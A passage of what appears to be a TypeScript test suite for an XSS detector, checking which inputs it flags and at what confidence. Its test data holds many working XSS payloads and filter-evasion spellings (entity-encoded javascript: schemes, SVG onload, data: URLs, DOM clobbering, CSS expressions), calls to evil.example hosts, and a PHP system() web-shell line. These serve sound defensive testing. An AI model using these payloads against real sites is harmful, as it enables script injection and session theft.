  for (const [name, v] of Object.entries(big)) t.doesNotThrow(() => detectXss(v), name);
});

t.test('runs of `<` are skipped to the tag or comment after them', async (t) => {
  t.equal(detectXss('<'.repeat(100000)), undefined);
  t.equal(detectXss('<'.repeat(100000) + '<script>alert(1)</script>')?.rule, 'xss.script-tag');
  t.equal(detectXss('<'.repeat(1000) + '<img src=x onerror=alert(1)>')?.confidence, 'high');
  t.equal(detectXss('<<<<<< s c r i p t >')?.rule, 'xss.tag-obfuscation');
  // An open comment after `<` runs or after `!--` runs (the opener is searched by its `!--`).
  t.equal(detectXss('<'.repeat(1000) + '<!-- x')?.rule, 'xss.comment-injection');
  t.equal(detectXss('!--'.repeat(1000) + '<!--')?.rule, 'xss.comment-injection');
  const tags: string[] = [];
  scanHtmlTags('<<<<a x=1><<</b>', (tag) => {
    tags.push(`${tag.closing ? '/' : ''}${tag.name}@${tag.start}`);
  });
  t.same(tags, ['a@3', '/b@12']);
});

t.test('names, spellings and PHP tags after long hostile runs', async (t) => {
  // localName, spelledName and phpCode were made cheaper per `<`; the findings are those of the build
  // before (and the cheap paths keep the rare shapes: namespaced names, spelled names, `<?` tags).
  const cases: Array<[string, string, string]> = [
    ['PHP after 30 KB of `<a `', '<a '.repeat(10000) + '<?php system($_GET[1]); ?>', 'xss.server-code/high'],
    ['a short PHP echo tag', '<a<a<?= $x ?>', 'xss.server-code/high'],
    ['a spelled script tag after 30 KB of `<a x="`', '<a x="'.repeat(5000) + '<s c r i p t>', 'xss.tag-obfuscation/high'],
    ['a namespaced script after 25 KB of end tags', '</a>x'.repeat(5000) + '<x:script>alert(1)</x:script>', 'xss.script-tag/high'],
    ['a context end tag after end tags', '</a>x'.repeat(100) + '</textarea>', 'xss.context-breakout/medium'],
    ['question marks after `<a `', '<a ?'.repeat(1000), 'xss.html-tag/low'],
    ['three spelled letters are no spelling', '<a b c>', 'xss.html-tag/low'],
  ];
  for (const [name, value, want] of cases) {
    const d = detectXss(value);
    t.equal(d === undefined ? undefined : `${d.rule}/${d.confidence}`, want, name);
  }
});

t.test('scheme gates: a colon written as a reference, references that start a scheme, and runs of `&#38;`', async (t) => {
  // No raw colon: the colon is a reference (numeric with padding, hex, named), so the scheme scan runs.
  const high = [
    '"javascript&#58;alert(1)',
    'javascript&#x3A;alert(1)',
    'javascript&#0000058;alert(1)',
    '=javascript&colon;alert(1)',
    '=JAVASCRIPT&COLON;alert(1)',
    '&#106;avascript&#58;alert(1)',
    '&#X6A;avascript&#x3a;alert(1)',
    '&#9;javascript&#58;alert(1)',
    '&#38;'.repeat(20000) + '"javascript&#58;alert(1)',
  ];
  for (const v of high) t.equal(detectXss(v)?.rule, 'xss.script-url', `script-url: ${JSON.stringify(v.slice(-40))}`);
  // A reference that decodes to another character than a colon, or to a letter no scheme starts
  // with, finds no scheme; the encoded-probe rule (a value of 4-16 characters) still runs.
  const none = ['javascript&#59;void(0)', 'javascript&#x3b;x', '&#38;'.repeat(200000), '&#120;avascript:void(0)', '&#38; &#38; AT&amp;T'];
  for (const v of none) t.equal(detectXss(v), undefined, `nothing: ${JSON.stringify(v.slice(0, 40))}`);
  t.equal(detectXss('&#x00003C')?.rule, 'xss.encoded-probe');
  t.equal(detectXss('&#60;')?.rule, 'xss.encoded-probe');
});

t.test('the first `<` that may start a judged name: what comes before it is skipped, what is after is found', async (t) => {
  const cases: Array<[string, string | undefined]> = [
    ['</a>x'.repeat(3000) + '<embed src=x>', 'xss.embed-tag/high'],
    ['<a x="'.repeat(3000) + '<frame src=x>', 'xss.embed-tag/high'],
    ['<a<a'.repeat(3000) + '< script>', 'xss.script-tag/high'],
    ['</a>x'.repeat(3000) + '<\u0000script>', 'xss.script-tag/high'],
    ['<=<"<'.repeat(3000) + '<x: script>', 'xss.script-tag/high'],
    ['<a x="'.repeat(3000) + '<f o r m>', 'xss.tag-obfuscation/high'],
    ['<a '.repeat(3000) + '<?import namespace="t" implementation="x.htc">', 'xss.embed-tag/high'],
    ['</a>x'.repeat(3000) + '<!ATTLIST img onerror CDATA "alert(1)">', 'xss.event-handler/high'],
    ['<<<<' + '<i:embed>', 'xss.embed-tag/high'],
    // Short names, a `<` at the end, `</`, `<=`: nothing there, as before.
    ['a <= b and c < d', undefined],
    ['x<', undefined],
  ];
  for (const [value, want] of cases) {
    const d = detectXss(value);
    t.equal(d === undefined ? undefined : `${d.rule}/${d.confidence}`, want, JSON.stringify(value.slice(-48)));
  }
});

t.test('the tag scanner: tags without attributes and with them', async (t) => {
  const seen: string[] = [];
  scanHtmlTags('</a><b><c d=1 e><f/>', (tag) => {
    seen.push(`${tag.closing ? '/' : ''}${tag.name}:${tag.attributes.map((a) => `${a.name}=${a.value}`).join(',')}`);
  });
  t.same(seen, ['/a:', 'b:', 'c:d=1,e=', 'f:']);
  // Lists without attributes are shared and read-only; a tag's own list is its own.
  const lists: HtmlTag['attributes'][] = [];
  scanHtmlTags('<a><b><c x=1><d y=2>', (tag) => {
    lists.push(tag.attributes);
  });
  t.equal(lists[0], lists[1]);
  t.ok(Object.isFrozen(lists[0]));
  t.not(lists[2], lists[3]);
  t.same(lists[2], [{ name: 'x', value: '1', hasValue: true, at: 11 }]);
});

t.test('end tags: a name and `>` built without readTag, short names without checkTag', async (t) => {
  const tags = (v: string): unknown[] => {
    const out: unknown[] = [];
    scanHtmlTags(v, (tag) => {
      out.push([tag.name, tag.closing, tag.attributes.map((a) => [a.name, a.value, a.hasValue]), tag.start, tag.end, tag.terminated]);
    });
    return out;
  };
  // What readTag gives for each: name folded, attributes read, unterminated at the end.
  t.same(tags('</a>'), [['a', true, [], 0, 4, true]]);
  t.same(tags('</A>'), [['a', true, [], 0, 4, true]]);
  t.same(tags('</a >'), [['a', true, [], 0, 5, true]]);
  t.same(tags('</a/>'), [['a', true, [], 0, 5, true]]);
  t.same(tags('</a b=c>'), [['a', true, [['b', 'c', true]], 0, 8, true]]);
  t.same(tags('</a'), [['a', true, [], 0, 3, false]]);
  t.same(tags('</ab\t>'), [['ab', true, [], 0, 6, true]]);
  t.same(tags('</Ab\u212a>'), [['abk', true, [], 0, 6, true]]);
  t.same(tags('</a>x</b'), [['a', true, [], 0, 4, true], ['b', true, [], 5, 8, false]]);
  // Short end tags change nothing; the context elements and `</script>` after them still count.
  const d = (v: string): string => {
    const r = detectXss(v);
    return r === undefined ? '-' : `${r.rule}/${r.confidence}`;
  };
  t.equal(d('</a>x'.repeat(100) + '</title>'), 'xss.context-breakout/medium');
  t.equal(d('</ab>'.repeat(100) + 'x=1;</script>'), 'xss.context-breakout/high');
  t.equal(d('x</a></b></xmp>'), 'xss.context-breakout/medium');
  t.equal(d('x <xmp>a</xmp>'), 'xss.raw-text-tag/high');
  t.equal(d('x </a> y'), '-');
  t.equal(d('x </ScRiPt> y'), 'xss.context-breakout/medium');
  t.equal(d('x=1; </ScRiPt>'), 'xss.context-breakout/high');
});

t.test('the full-width and 7-bit `<` forms are noticed among any other non-ASCII text', async (t) => {
  // The first pass reads one table over every code unit: U+FF1C and 0xBC must set their flag there.
  for (const pad of ['é.é ', 'ａ．ｂ ', '中文 ']) {
    t.ok(detectXss(pad.repeat(300) + '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e'), `${pad} full-width`);
    t.ok(detectXss(pad.repeat(300) + '\u00bcscript\u00bealert(1)\u00bc/script\u00be'), `${pad} 0xBC`);
  }
  t.equal(detectXss('é.é ａ．ｂ ¾ ＞ '.repeat(300)), undefined);
});

t.test('a `document.` or `window.` root is still found after text full of other dots', async (t) => {
  // The first pass looks at a `.` only after a `t` or `w` (XPAIR): a root's dot must still count.
  for (const pad of ['é.é ', 'a.b ', 'ａ．ｂ ', 'Ｗ.ｔ ']) {
    t.equal(detectXss(pad.repeat(200) + 'x=window.location')?.rule, 'xss.dom-access', `${pad} window`);
    t.equal(detectXss(pad.repeat(200) + '(document.domain)')?.rule, 'xss.dom-access', `${pad} document`);
    t.equal(detectXss(pad.repeat(200) + 'x=mywindow.location'), undefined, `${pad} another object's member`);
  }
});

t.test('every script scheme is still seen when colons are dense', async (t) => {
  // The first pass compares scheme names only before a colon that follows a `t` or `a` (any case).
  for (const scheme of ['javascript', 'JavaScript', 'vbscript', 'livescript', 'MOCHA', 'data']) {
    const tail = scheme.toLowerCase() === 'data' ? `${scheme}:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==` : `${scheme}:alert(1)`;
    const v = 'é:é a:b '.repeat(200) + '<a href="' + tail + '">x</a>';
    const plain = detectXss('<a href="' + tail + '">x</a>');
    t.ok(plain, scheme);
    t.equal(detectXss(v)?.rule, plain?.rule, `${scheme} after dense colons`);
  }
});

t.test('data: URLs: an active media type is found whole, and text that starts none is left early', async (t) => {
  for (const type of ['text/html', 'TEXT/HTML', 'te&#x78;t/html', 'image/svg+xml', 'application/x-shockwave-flash']) {
    const url = `<iframe src="data:${type};base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`;
    const plain = detectXss(url);
    t.ok(plain, type);
    t.equal(detectXss('data:x '.repeat(300) + url)?.rule, plain?.rule, `${type} after many data:x`);
  }
  // Prefixes of active types that end early, and longer words that start with one, are not active.
  for (const type of ['text/htm', 'text/htmlx', 'image/svg', 'text']) {
    t.notOk(detectXss(`<iframe src="data:${type},x">`)?.rule === 'xss.script-url', type);
  }
});

t.test('data: URLs: the media type is read unit by unit as the scheme reader gives it', async (t) => {
  // Every active type, whole (at the start: high), and cut short or run on (none).
  const types = ['text/html', 'text/xml', 'application/xml', 'application/xhtml+xml', 'image/svg+xml', 'image/svgxml', 'text/javascript', 'application/javascript', 'application/x-javascript', 'text/ecmascript', 'application/ecmascript', 'text/vbscript', 'application/x-shockwave-flash'];
  for (const type of types) {
    t.equal(detectXss(`data:${type},x`)?.rule, 'xss.script-url', type);
    t.notOk(detectXss(`data:${type.slice(0, -1)},x`)?.rule === 'xss.script-url', `${type} cut short`);
    t.notOk(detectXss(`data:${type}s,x`)?.rule === 'xss.script-url', `${type} run on`);
  }
  // Blanks, tabs and comment seams are dropped; a `,` or `;` ends the type.
  t.equal(detectXss('data:te xt/ht\tml,x')?.rule, 'xss.script-url');
  t.equal(detectXss('data:text/<!-- -->html;base64,x')?.rule, 'xss.script-url');
  t.notOk(detectXss('data:text,/html')?.rule === 'xss.script-url');
  // A reference above U+FFFF is read modulo 2^16 (`&#x10074;` as `t`), but not lower-cased then.
  t.equal(detectXss('data:&#x10074;ext/html,x')?.rule, 'xss.script-url');
  t.notOk(detectXss('data:&#x10054;ext/html,x')?.rule === 'xss.script-url');
  // Units above ASCII (full-width letters, an accented one) start no type.
  t.notOk(detectXss('data:ｔext/html,x')?.rule === 'xss.script-url');
  t.notOk(detectXss('data:text/htmé,x')?.rule === 'xss.script-url');
  // Dense `data:` runs of any type, active or not: each read on its own.
  // (Blanks are dropped: each type runs on into the next `data`, and the last into the `x`.)
  t.notOk(detectXss('data:text/html '.repeat(500) + 'x')?.rule === 'xss.script-url');
  t.equal(detectXss('data:text/html '.repeat(500))?.confidence, 'medium');
  t.equal(detectXss('data:text/html '.repeat(500) + 'x="data:image/svg+xml,<svg>')?.rule, 'xss.script-url');
});

t.test('<meta>: the charset and IE-mode declarations of HTML e-mail pass, every other http-equiv is high', async (t) => {
  const notHigh = [
    // Apple Mail, Thunderbird and Outlook bodies; newsletter templates.
    '<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head><body style="word-wrap: break-word;"><div>Hi team,</div><div><br></div><div>Thanks,<br>Anna</div></body></html>',
    '<meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1">',
    '<meta http-equiv="Content-Type" content="text/html;charset=windows-1252">',
    '<meta http-equiv=Content-Type content=text/html>',
    '<meta charset="UTF-8">',
    "<meta charset='us-ascii'>",
    '<meta http-equiv="X-UA-Compatible" content="IE=edge">',
  ];
  for (const v of notHigh) t.not(detectXss(v)?.confidence, 'high', `not high: ${v}`);
  t.equal(detectXss('<meta charset="utf-8">')?.confidence, 'low', 'still reported, low');
  const high = [
    '<meta http-equiv="refresh" content="0;url=//x.example">',
    '<meta http-equiv="Content-Type" content="text/html; charset=UTF-7">',
    '<meta http-equiv="Content-Type" content="text/html; charset=utf-8; charset=utf-7">',
    '<meta http-equiv="Content-Type" content="application/xhtml+xml; charset=utf-8">',
    '<meta charset="UTF-7">',
    '<meta charset="ISO-2022-JP">',
    '<meta charset="shift_jis">',
    '<meta charset>',
    '<meta charset="utf-8" http-equiv="refresh" content="0;url=//x.example">',
    '<meta http-equiv="X-UA-Compatible" content="IE=5">',
    '<meta http-equiv="X-UA-Compatible" content="IE=EmulateIE7">',
    '<meta http-equiv="Content-Security-Policy" content="script-src \'none\'">',
    '<meta http-equiv="set-cookie" content="sid=attacker; path=/">',
    '<meta http-equiv="default-style" content="x">',
    '<meta http-equiv="content-type " content="text/html; charset=iso-8859-1234567">',
  ];
  for (const v of high) t.equal(detectXss(v)?.confidence, 'high', `high: ${v}`);
});

t.test('a dialog or eval call as a template-literal substitution', async (t) => {
  for (const v of ['${alert(1)}', '`${alert(document.domain)}`', '${prompt`1`}', 'x ${ confirm(1) } y', '${eval(name)}']) {
    t.equal(detectXss(v)?.confidence, 'high', `high: ${v}`);
  }
  for (const v of ['Hello ${user.name}, confirm by ${date}', 'Use `${setInterval(tick, 1000)}` here', 'The total is ${confirm}', '${confirmOrder(id)}', '{alert(1)}']) {
    t.not(detectXss(v)?.confidence, 'high', `not high: ${v}`);
  }
});

t.test('DOM clobbering: elements named after document or Node members', async (t) => {
  const high = [
    '<img name=currentScript src=https://evil.example/>',
    '<form name=getElementById></form>',
    '<img name="cookie">',
    '<img name=body src=x.png>',
    '<form><input name=attributes><input name=nodeName></form>',
    '<form id=x><button id=parentNode>',
    '<form><img name=removeChild></form>',
  ];
  for (const v of high) t.equal(detectXss(v)?.rule, 'xss.dom-clobbering', `clobbering: ${v}`);
  const notHigh = [
    '<img name=logo src=https://cdn.example.com/logo.png>',
    '<a name="cookie">Cookie policy</a>',
    '<form name="search"><input name="q"><input type="hidden" name="action" value="find"><input name="body"></form>',
    '<p id="attributes">Attributes</p>',
    '<img alt="cookie" src="x.png">',
    '<img name="Cookie" src="x.png">',
    '<div id="currentScript">',
  ];
  for (const v of notHigh) t.not(detectXss(v)?.confidence, 'high', `not high: ${v}`);
});

t.test('script URLs that run nothing: javascript:void(0) links and SVG data URLs drawn as images', async (t) => {
  const notHigh = [
    '<a href="javascript:void(0)" class="dropdown-toggle">Products</a>',
    '<a href="javascript:;">Menu</a>',
    "<a href='JavaScript:Void(0);' title=menu>x</a>",
    '<a href=javascript:void(0)>x</a>',
    '<a href="javascript:">x</a>',
    'javascript:void(0)',
    '"javascript:void 0"',
    '<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=" alt="">',
    // An image never runs the SVG's script, whatever the SVG holds.
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<picture><source srcset="data:image/svg+xml;utf8,%3Csvg%3E%3C/svg%3E"><img src="a.png"></picture>',
    '<video poster="data:image/svg+xml,%3Csvg%3E%3C/svg%3E" src="https://cdn.example/v.mp4"></video>',
  ];
  for (const v of notHigh) t.not(detectXss(v)?.confidence, 'high', `not high: ${v}`);
  const high = [
    '<a href="javascript:void(alert(1))">x</a>',
    '<a href="javascript:void(0);alert(1)">x</a>',
    '<a href="javascript:void(0)>alert(1)">x</a>',
    '<a href="javascript:void(0) ,alert(1)">x</a>',
    '<a href="javascript:void(0)\n;alert(1)">x</a>',
    '<a href="javascript:void(0)%0aalert(1)">x</a>',
    '<a href="javascript:void(0)//&#10;alert(1)">x</a>',
    '<a href="javascript:\'<img src=x onerror=alert(1)>\'">x</a>',
    '<a href="javascript:void(0)" onclick="alert(1)">x</a>',
    'javascript:void(0);alert(1)',
    "javascript:void(0)'+alert(1)+'",
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<iframe src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">x</a>',
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+#x"/></svg>',
    '<object data="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="data:text/html,x"> <a href="data:image/svg+xml,x">y</a>',
    '<img src="data:image/svg+xml,x"> href="data:image/svg+xml,x',
  ];
  for (const v of high) t.equal(detectXss(v)?.confidence, 'high', `high: ${v}`);
});

t.test('a whole value that is an SVG data URL of a static drawing is medium (s21 hC)', async (t) => {
  const b64 = (svg: string): string => `data:image/svg+xml;base64,${Buffer.from(svg).toString('base64')}`;
  const NS = 'xmlns="http://www.w3.org/2000/svg"';
  // What a signature pad, a chart export or an avatar editor sends as a field's value.
  const signature =
    `<?xml version="1.0" encoding="UTF-8" standalone="no"?><svg ${NS} xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 300 150" width="300" height="150">` +
    '<path d="M 12.5,40.2 C 20.1,42.7 35.4,51.0 48.9,60.3" stroke-width="2.31" stroke="rgb(0,0,0)" fill="none" stroke-linecap="round"></path>' +
    '<circle r="1.5" cx="80" cy="61" fill="black"></circle></svg>';
  const notHigh = [
    b64(signature),
    b64(`<svg ${NS} width="10" height="10"><rect width="10" height="10"/></svg>`),
    b64(`<svg ${NS}><defs><linearGradient id="g"><stop offset="0" stop-color="#09f"/></linearGradient></defs><rect width="9" height="9" fill="url(#g)" style="stroke: url( '#g' )"/><text x="1" y="8">Hi &amp; bye</text></svg>`),
    b64(`<!-- Generator: drawing tool --><svg ${NS}><g><polygon points="0,0 5,9 9,0"/></g></svg>`),
    `data:image/svg+xml;charset=utf-8;base64,${Buffer.from(`<svg ${NS}/>`).toString('base64')}`,
    "data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 8 8'%3E%3Cpath fill='%23333' d='M0 0h8v8H0z'/%3E%3C/svg%3E",
    `${b64(`<svg ${NS}><ellipse rx="3" ry="2"/></svg>`)}  `,
  ];
  for (const v of notHigh) {
    const d = detectXss(v);
    t.equal(d?.rule, 'xss.script-url', `still reported: ${v.slice(0, 60)}`);
    t.equal(d?.confidence, 'medium', `medium: ${v.slice(0, 60)}`);
  }
  const high = [
    b64(`<svg ${NS} onload="alert(1)"/>`),
    b64(`<svg ${NS}><script>alert(1)</script></svg>`),
    b64(`<svg ${NS}><a xlink:href="javascript:alert(1)"><rect width="9" height="9"/></a></svg>`),
    b64(`<svg ${NS}><rect width="9" height="9" style="fill:url(https://tracker.example/p)"/></svg>`),
    b64(`<svg ${NS}><rect width="9" height="9" fill="url(&#x68;ttps://tracker.example/p)"/></svg>`),
    b64(`<svg ${NS}><foreignObject><iframe src="javascript:alert(1)"/></foreignObject></svg>`),
    b64(`<svg ${NS}><set attributeName="onmouseover" to="alert(1)"/></svg>`),
    b64(`<svg ${NS}><animate attributeName="href" values="javascript:alert(1)"/></svg>`),
    // s21 rB: a prefixed name is any element of any namespace (each was medium at 1a6af64).
    b64(`<svg ${NS} xmlns:svg="http://www.w3.org/2000/svg"><svg:script>alert(document.domain)</svg:script></svg>`),
    b64(`<svg ${NS}><g:script xmlns:g="http://www.w3.org/2000/svg">alert(1)</g:script></svg>`),
    b64(`<svg ${NS}><text:script xmlns:text="http://www.w3.org/1999/xhtml">alert(1)</text:script></svg>`),
    `data:image/svg+xml,<svg ${NS}><svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script></svg>`,
    // A processing instruction other than the XML declaration (an XSLT sheet).
    b64(`<?xml-stylesheet type="text/xsl" href="data:text/xsl,x"?><svg ${NS}><rect/></svg>`),
    b64(`<svg ${NS}><use href="https://evil.example/x.svg#a"/></svg>`),
    b64(`<svg ${NS}><image href="https://evil.example/x.png"/></svg>`),
    b64(`<svg ${NS}><style>@import url(https://evil.example/x.css)</style></svg>`),
    b64(`<!DOCTYPE svg [<!ENTITY x "y">]><svg ${NS}>&x;</svg>`),
    b64(`<svg ${NS}><![CDATA[x]]></svg>`),
    b64(`<html><body onload="alert(1)"></body></html>`),
    b64(`<svg ${NS}><rect width="9"`),
    `x=${b64(`<svg ${NS}/>`)}`,
    `${b64(`<svg ${NS}/>`)} <script>alert(1)</script>`,
    `data:image/svg+xml;foo=bar;base64,${Buffer.from(`<svg ${NS}/>`).toString('base64')}`,
    "data:image/svg+xml,%3Csvg onload=alert(1)%3E",
    'data:image/svg+xml,%E0%A4%A',
    'data:image/svg+xml,x',
  ];
  for (const v of high) t.equal(detectXss(v)?.confidence, 'high', `high: ${v.slice(0, 80)}`);
});

t.test('only a plainly spelled javascript: scheme can be an inert placeholder', async (t) => {
  for (const v of ['<a probe="ja\tvascript: ">x</a>', '<a href="ja&Tab;vascript:">x</a>', '<a href="java&#10;script:void(0)">x</a>', 'jav&#x09;ascript:void(0)']) {
    t.equal(detectXss(v)?.confidence, 'high', `high: ${JSON.stringify(v)}`);
  }
  t.not(detectXss('<a href="JAVASCRIPT:void(0)">x</a>')?.confidence, 'high');
});

t.test('a JSON-LD data block the value opens and closes is not a script', async (t) => {
  const notHigh = [
    '<script type="application/ld+json">{"@context":"https://schema.org","@type":"Organization"}</script>',
    '<p>Our office</p><script type="application/ld+json">{"@context":"https://schema.org","@type":"LocalBusiness","name":"Café; Bar","url":"https://example.com/?a=1&b=2"}</script>',
    "<script type='Application/LD+JSON'>{}</script>",
  ];
  for (const v of notHigh) t.not(detectXss(v)?.confidence, 'high', `not high: ${v}`);
  t.equal(detectXss(notHigh[0]!)?.confidence, 'medium', 'still reported');
  const high = [
    '<script type="application/ld+json" src="//evil.example/x.js"></script>',
    '<script type="application/ld+json" type="text/javascript">alert(1)</script>',
    '<script type="application/ld+json">{}</script><script>alert(1)</script>',
    '<script type="application/ld+json" onload=alert(1)>',
    '<script  type="application/ld+json">{}</script>',
    '<script type="application/ld+json ">{}</script>',
    '<script type="application/json">{}</script>',
    '<script type="importmap">{"imports":{"a":"//evil.example/a.js"}}</script>',
    '<script type="application/ld+json">{"x":"</script><img src=x onerror=alert(1)>"}</script>',
    '<script type="application/ld+json">{}</script></script>',
    'x=1;</script><script type="application/ld+json">{}</script>',
  ];
  for (const v of high) t.equal(detectXss(v)?.confidence, 'high', `high: ${v}`);
});

t.test('DOM clobbering: names that real forms use, or that cannot be shadowed, pass', async (t) => {
  for (const v of ['<form name="domain" action="/search"><input name="q"></form>', '<form name="location"><input name="zip"></form>', '<form><input type="number" name="children" min="0"></form>', '<img name="head" src="h.png">']) {
    t.not(detectXss(v)?.confidence, 'high', `not high: ${v}`);
  }
});

t.test('a pasted JSX arrow handler, cut by the browser to an unclosed block, runs nothing', async (t) => {
  // What a browser keeps of these handlers is `{()` or `{e`: a SyntaxError, never compiled.
  for (const v of [
    'In React: <button onClick={() => setCount(count + 1)}>+</button>',
    '<input onChange={e => setName(e.target.value)} />',
    'Use onClick={() => handleSubmit(form)} on the button',
    '<li onMouseEnter={(e) => show(e.currentTarget)}>x</li>',
    '<button onClick={() => setOpen(true)}>x</button>',
  ]) {
    t.not(detectXss(v)?.confidence, 'high', `not high: ${v}`);
  }
  // A `}` anywhere in the value (or an entity that decodes to one) closes the block: still high.
  for (const v of [
    '<button onClick={alert(1)}>x</button>',
    '<button onClick={alert(1)&#125;>x</button>',
    '<button onClick={alert(1)&rcub;>x</button>',
    '<svg onload={(alert(1))}>',
    '<img src=x onerror={alert(1)}//>',
    'x onfocus={alert(document.domain)} autofocus',
    '" onfocus={alert(1)} autofocus x="',
    '<img src=x onerror={alert(1) onload=alert(2)>',
  ]) {
    t.equal(detectXss(v)?.confidence, 'high', `high: ${v}`);
  }
});

t.test('a bare <iframe> named in prose loads nothing; any attribute on it stays high', async (t) => {
  for (const v of ['The <iframe> tag is blocked by our CSP, how do I embed the form?', 'Use <iframe/> or <IFRAME > here', '<iframe>']) {
    t.not(detectXss(v)?.confidence, 'high', `not high: ${v}`);
  }
  for (const v of [
    '<iframe src=//evil.example>',
    '<iframe/src=//evil.example>',
    '<iframe onload=alert(1)>',
    '<iframe name=x>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
    '<iframe><script>alert(1)</script></iframe>',
    '<iframe> then <iframe src=javascript:alert(1)>',
    'x <iframe',
    '< iframe src=x>',
    '<frame>',
    '<object>',
    '<embed>',
  ]) {
    t.equal(detectXss(v)?.confidence, 'high', `high: ${v}`);
  }
});

t.test('a numeric reference to `:` in every spelling still opens a scheme; the first pass rejects others by their first digits', async (t) => {
  // detectXss's first pass reads a reference's digits only when they may spell 58 (`58`, `x3a`, or a
  // leading zero): entity runs around the scheme, and every spelling of the colon, must still reach
  // the scheme scan.
  const rule = (v: string): string => detectXss(v)?.rule ?? '-';
  for (const colon of ['&#58;', '&#x3A;', '&#X3a;', '&#0058;', '&#x003a;', '&#000000000058;', '&#58']) {
    t.equal(rule(`javascript${colon}alert(1)`), 'xss.script-url', colon);
    t.equal(rule(`${'&#38;'.repeat(1000)}"javascript${colon}alert(1)`), 'xss.script-url', `after &#38; x1000: ${colon}`);
    t.equal(rule(`${'&#'.repeat(500)}javascript${colon}alert(document.cookie)`), 'xss.script-url', `after &# x500: ${colon}`);
  }
  // Near misses are no colon (the digits go on, or stop short).
  for (const ref of ['&#583;', '&#5;', '&#x3ab;', '&#x3;', '&#x3b;', '&#48;', '&#0000000000058;']) t.not(rule(`javascript${ref}alert(1)`), 'xss.script-url', ref);
  t.equal(detectXss('&#38;'.repeat(5000)), undefined);
  t.equal(detectXss('&#'.repeat(5000)), undefined);
});

t.test('a scheme whose first letter (or a tab, LF, CR before it) is a numeric reference, in every spelling, after entity runs', async (t) => {
  // scanSchemes reads a reference only when its first digit may start one of those code points (a
  // load rejects `&#58;`, `&#x3a;`, `&#38;` first): each spelling must still reach it.
  const cases: Array<[string, string]> = [];
  for (const r of ['&#106;', '&#x6A;', '&#X4a;', '&#0106;', '&#x006a;', '&#74;', '&#x4A;']) cases.push([r, 'avascript:alert(1)']);
  for (const r of ['&#100;', '&#x64;', '&#68;', '&#x44;']) cases.push([r, 'ata:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==']);
  for (const r of ['&#118;', '&#x76;', '&#86;', '&#x56;']) cases.push([r, 'bscript:msgbox(1)']);
  for (const r of ['&#108;', '&#x6c;', '&#76;', '&#x4c;']) cases.push([r, 'ivescript:alert(1)']);
  for (const r of ['&#109;', '&#x6d;', '&#77;', '&#x4d;']) cases.push([r, 'ocha:alert(1)']);
  for (const r of ['&#9;', '&#x9;', '&#10;', '&#x0a;', '&#13;', '&#xd;', '&#x0D;']) cases.push([r, 'javascript:alert(1)']);
  for (const [ref, rest] of cases) {
    for (const v of [ref + rest, `${'&#38;'.repeat(200)}="${ref}${rest}`, `${'&#58;'.repeat(200)}="${ref}${rest}`, `${'&#x3a;'.repeat(200)}="${ref}${rest}`]) {
      const d = detectXss(v);
      t.equal(d === undefined ? '-' : `${d.rule}/${d.confidence}`, 'xss.script-url/high', v.slice(-60));
    }
  }
  // Colon runs, raw or as references, open nothing.
  for (const v of [':'.repeat(5000), '&#58;'.repeat(5000), '&#x3a;'.repeat(5000), '&colon;'.repeat(5000)]) t.equal(detectXss(v), undefined, v.slice(0, 12));
});

t.test('CSS expression and binding after colon runs: every spelling of `expression` and `url` still read', async (t) => {
  // scanCss passes a colon whose next character starts neither (nor a blank, comment, entity or
  // escape) when no property name ends before it, and reads `url` before the property name: the
  // spellings below must still reach both, alone and after 1 500 characters of colon-dense text.
  const expression = ['color:expression(alert(1))', 'color: \\65xpression(alert(1))', 'color:/**/expression(alert(1))', 'color:&#101;xpression(alert(1))', 'x:E\\78pression(alert(1))', 'a::expression(alert(1))', 'x::&#101;xpression(alert(1))', 'x::/**/expression(alert(1))', 'x::\\65xpression(alert(1))', 'x:: expression(alert(1))'];
  const binding = ['behavior:url(x.htc)', 'behavior: \\75rl(x.htc)', '-moz-binding:&#117;rl(//x.example/a.xml#x)', '-moz-binding:/**/url(//x.example/a.xml#x)', 'behavior :url(x.htc)'];
  for (const [list, rule] of [[expression, 'xss.css-expression'], [binding, 'xss.css-binding']] as const) {
    for (const v of list) {
      for (const w of [v, `${'::::&'.repeat(300)} ${v}`, `${'a: b&'.repeat(300)} ${v}`]) t.equal(detectXss(w)?.rule, rule, w.slice(-50));
    }
  }
  for (const v of ['::::&'.repeat(3000), 'a: b&'.repeat(3000), 'key: value & url: none'.repeat(100)]) t.equal(detectXss(v), undefined, v.slice(0, 20));
});

t.test('named references inside a scheme (any case) after runs of other ampersands', async (t) => {
  // entityAt rejects an `&` whose next letter starts none of its names (`t`, `n`, `c`) at once.
  for (const v of ['java&Tab;script&colon;alert(1)', 'jav&NewLine;ascript&COLON;alert(1)', `${'&#38;'.repeat(100)}="javascript&Colon;alert(1)`, `${'::::&'.repeat(100)}="java&tab;script&colon;alert(1)`, `${'&amp;'.repeat(100)}="javascript&colon;alert(1)`]) {
    const d = detectXss(v);
    t.equal(d === undefined ? '-' : `${d.rule}/${d.confidence}`, 'xss.script-url/high', v.slice(-40));
  }
});

t.test('colon runs: the first colon is judged for a scheme before it, the last for CSS after it', async (t) => {
  // detectXss's first pass reads a colon run to its last colon: a scheme name before the run and a
  // CSS word after it must still open their scans.
  const rule = (v: string): string => {
    const d = detectXss(v);
    return d === undefined ? '-' : `${d.rule}/${d.confidence}`;
  };
